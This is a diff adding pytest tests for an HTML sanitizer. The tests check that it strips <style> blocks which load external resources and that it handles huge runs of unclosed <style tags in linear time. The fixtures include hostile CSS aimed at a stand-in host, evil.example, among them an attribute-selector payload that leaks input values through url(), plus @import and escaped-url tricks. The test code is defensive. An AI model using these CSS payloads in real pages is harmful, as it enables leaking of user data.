@@ -76,6 +76,35 @@ def test_hostile_html_keeps_nothing_that_runs_or_loads() -> None:
     assert "styled" in clean and "cell" in clean
 
 
+def test_style_elements_kept_only_when_they_load_nothing() -> None:
+    """A <style> with plain rules and @media stays; one with url(), @import, @font-face,
+    image-set(), an escape or a "<" goes whole."""
+    html = (
+        "<style>/* c */ p { color: red } @media (max-width: 600px) { td { display: block } }"
+        "</style>"
+        "<style>input[value^=a] { background: url(http://evil.example/a) }</style>"
+        '<style>@import "http://evil.example/s.css";</style>'
+        "<style>@font-face { font-family: x; src: local(y) }</style>"
+        '<style>p { background: image-set("http://evil.example/i.png" 1x) }</style>'
+        "<style>p { background: u\\72l(http://evil.example/e) }</style>"
+        "<style>a { color: red }</sty</style>"
+        "<p>hi</p>"
+    )
+    clean, _ = render.sanitize_html(html)
+    assert clean.startswith("<style>p { color: red } @media (max-width: 600px)")
+    assert clean.count("<style>") == 1
+    assert "evil.example" not in clean and "font-face" not in clean and "/* c */" not in clean
+    assert clean.endswith("<p>hi</p>")
+
+
+def test_many_unclosed_style_tags_are_linear() -> None:
+    """Hostile repetition of ``<style`` without ``>`` or ``</style`` is one linear pass."""
+    clean, _ = render.sanitize_html("<style" * 200_000)
+    assert "<style" not in clean
+    clean, _ = render.sanitize_html("<style>" * 200_000)
+    assert "<style" not in clean
+
+
 def test_images_allowed_on_request() -> None:
     """``images=True`` keeps remote images (and nothing else that was unsafe)."""
     clean, blocked = render.sanitize_html(HOSTILE_HTML, images=True)
